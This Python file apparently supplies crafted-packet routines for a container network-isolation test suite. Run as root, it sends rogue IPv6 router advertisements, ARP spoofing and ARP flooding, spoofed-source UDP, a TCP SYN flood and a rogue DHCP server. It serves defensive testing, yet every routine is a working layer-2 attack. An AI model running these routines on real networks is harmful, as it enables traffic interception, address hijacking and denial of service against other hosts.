"""Crafted packets of root in a container. Fed to python3 in the container's network, see test_network.py."""

import socket
import struct
import sys
import time
from contextlib import suppress

BROADCAST = b"\xff" * 6
IPV4, ARP, IPV6 = 0x0800, 0x0806, 0x86DD
SYN, SYN_ACK, ACK = 0x02, 0x12, 0x10
MAGIC = b"enemy-packet"
DISCOVER, OFFER, REQUEST = 1, 2, 3


def mac(text: str) -> bytes:
    return bytes.fromhex(text.replace(":", ""))


def own_mac() -> bytes:
    with link() as peer:
        return bytes(peer.getsockname()[4])


def link() -> socket.socket:
    peer = socket.socket(socket.AF_PACKET, socket.SOCK_RAW, socket.htons(3))  # ETH_P_ALL
    peer.bind(("eth0", 0))
    return peer


def frame(to: bytes, source: bytes, kind: int, payload: bytes) -> bytes:
    return to + source + struct.pack("!H", kind) + payload


def checksum(data: bytes) -> int:
    data += bytes(len(data) % 2)
    total = sum(struct.unpack(f"!{len(data) // 2}H", data))
    total = (total >> 16) + (total & 0xFFFF)
    return ~(total + (total >> 16)) & 0xFFFF


def ipv4(source: str, to: str, protocol: int, payload: bytes) -> bytes:
    ends = socket.inet_aton(source) + socket.inet_aton(to)
    head = struct.pack("!BBHHHBBH", 0x45, 0, 20 + len(payload), 0, 0, 64, protocol, 0)
    return head[:10] + struct.pack("!H", checksum(head + ends)) + ends + payload


def udp(source: str, to: str, ports: tuple[int, int], data: bytes) -> bytes:
    return ipv4(source, to, 17, struct.pack("!HHHH", *ports, 8 + len(data), 0) + data)


def tcp(source: str, to: str, ports: tuple[int, int], flags: int) -> bytes:
    head = struct.pack("!HHIIBBHHH", *ports, 1, 1 if flags & ACK else 0, 0x50, flags, 65535, 0, 0)
    pseudo = socket.inet_aton(source) + socket.inet_aton(to) + struct.pack("!BBH", 0, 6, 20)
    return ipv4(source, to, 6, head[:16] + struct.pack("!H", checksum(pseudo + head)) + head[18:])


def advertise() -> None:
    """N1: a router advertisement to everybody: `I am the default router, and this is your prefix`."""
    source, everybody = socket.inet_pton(socket.AF_INET6, "fe80::66"), socket.inet_pton(socket.AF_INET6, "ff02::1")
    prefix = struct.pack("!BBBBIII", 3, 4, 64, 0xC0, 3600, 3600, 0) + socket.inet_pton(socket.AF_INET6, "2001:db8::")
    body = struct.pack("!BBHBBHII", 134, 0, 0, 64, 0, 1800, 0, 0) + prefix + struct.pack("!BB", 1, 1) + own_mac()
    pseudo = source + everybody + struct.pack("!IHBB", len(body), 0, 0, 58)
    body = body[:2] + struct.pack("!H", checksum(pseudo + body)) + body[4:]
    head = struct.pack("!IHBB", 6 << 28, len(body), 58, 255) + source + everybody
    with link() as peer:
        for _ in range(3):
            peer.send(frame(mac("33:33:00:00:00:01"), own_mac(), IPV6, head + body))
            time.sleep(0.1)


def claim(address: str, hardware: str, gateway: str) -> None:
    """N2: `the neighbour's address is at my MAC`, and frames that carry the neighbour's MAC."""
    sender, victim = socket.inet_aton(address), socket.inet_aton(gateway)
    with link() as peer:
        for _ in range(20):
            for operation, target in ((2, sender), (1, sender), (1, victim)):
                body = struct.pack("!HHBBH", 1, IPV4, 6, 4, operation) + own_mac() + sender + bytes(6) + target
                peer.send(frame(BROADCAST, own_mac(), ARP, body))
                stolen = struct.pack("!HHBBH", 1, IPV4, 6, 4, 1) + mac(hardware) + sender + bytes(6) + target
                peer.send(frame(BROADCAST, mac(hardware), ARP, stolen))
            time.sleep(0.02)


def ask_as_many(gateway_mac: str, gateway: str, network: str) -> None:
    """N2: ARP requests of 200 senders, each of which would be a neighbour of the server, from 200 MACs."""
    with link() as peer:
        for number in range(20, 220):
            sender, hardware = socket.inet_aton(f"{network}.{number}"), bytes([2, 0, 0, 0, 0, number])
            body = struct.pack("!HHBBH", 1, IPV4, 6, 4, 1) + hardware + sender + bytes(6) + socket.inet_aton(gateway)
            peer.send(frame(mac(gateway_mac), hardware, ARP, body))


def pretend(gateway_mac: str, to: str, *sources: str) -> None:
    """N2 and N8: packets to the outside with these source addresses."""
    with link() as peer:
        for source in sources * 3:
            packet = udp(source, to, (4000, 4000), MAGIC + source.encode())
            peer.send(frame(mac(gateway_mac), own_mac(), IPV4, packet))


def flood(gateway_mac: str, source: str, to: str, count: str, *answered: str) -> None:
    """N4: the first packets of connections. With `answered`, both addresses are its own and it answers itself."""
    to_gateway, hardware = mac(gateway_mac), own_mac()
    with link() as peer:
        peer.setblocking(False)  # frames that wait for the address of their receiver do not slow down the others
        for number in range(int(count)):
            ports = (1024 + number % 60000, 9 + number // 60000)
            rest = [(to, source, ports[::-1], SYN_ACK), (source, to, ports, ACK)] if answered else []
            for step in [(source, to, ports, SYN), *rest]:
                with suppress(BlockingIOError):
                    peer.send(frame(to_gateway, hardware, IPV4, tcp(*step)))


def dhcp(kind: int, hardware: bytes, offered: str, server: str = "") -> bytes:
    head = struct.pack("!BBBBIHH", 2 if server else 1, 1, 6, 0, 17, 0, 0x8000) + bytes(4) + socket.inet_aton(offered)
    body = head + bytes(8) + hardware + bytes(10 + 192) + b"\x63\x82\x53\x63" + bytes([53, 1, kind])
    return body + (bytes([54, 4]) + socket.inet_aton(server) if server else b"") + b"\xff"


def offer() -> None:
    """N8: a DHCP server that answers every DISCOVER that arrives, until it is killed."""
    with link() as peer:
        print("ready", flush=True)
        while seen := peer.recv(2000):
            if seen[12:14] == b"\x08\x00" and seen[23] == 17 and seen[36:38] == struct.pack("!H", 67):
                answer = udp(
                    "10.0.3.66", "255.255.255.255", (67, 68), dhcp(OFFER, seen[70:76], "10.0.3.99", "10.0.3.66")
                )
                peer.send(frame(BROADCAST, own_mac(), IPV4, answer))


def discover(seconds: str) -> None:
    """Print the addresses that are offered."""
    end, offered = time.monotonic() + float(seconds), set()
    with link() as peer:
        peer.settimeout(0.1)
        question = udp("0.0.0.0", "255.255.255.255", (68, 67), dhcp(DISCOVER, own_mac(), "0.0.0.0"))
        peer.send(frame(BROADCAST, own_mac(), IPV4, question))
        while time.monotonic() < end:
            try:
                seen = peer.recv(2000)
            except TimeoutError:
                continue
            if seen[12:14] == b"\x08\x00" and seen[23] == 17 and seen[36:38] == struct.pack("!H", 68):
                offered.add(socket.inet_ntoa(seen[58:62]))
    print(*sorted(offered))


if __name__ == "__main__":
    globals()[sys.argv[1]](*sys.argv[2:])
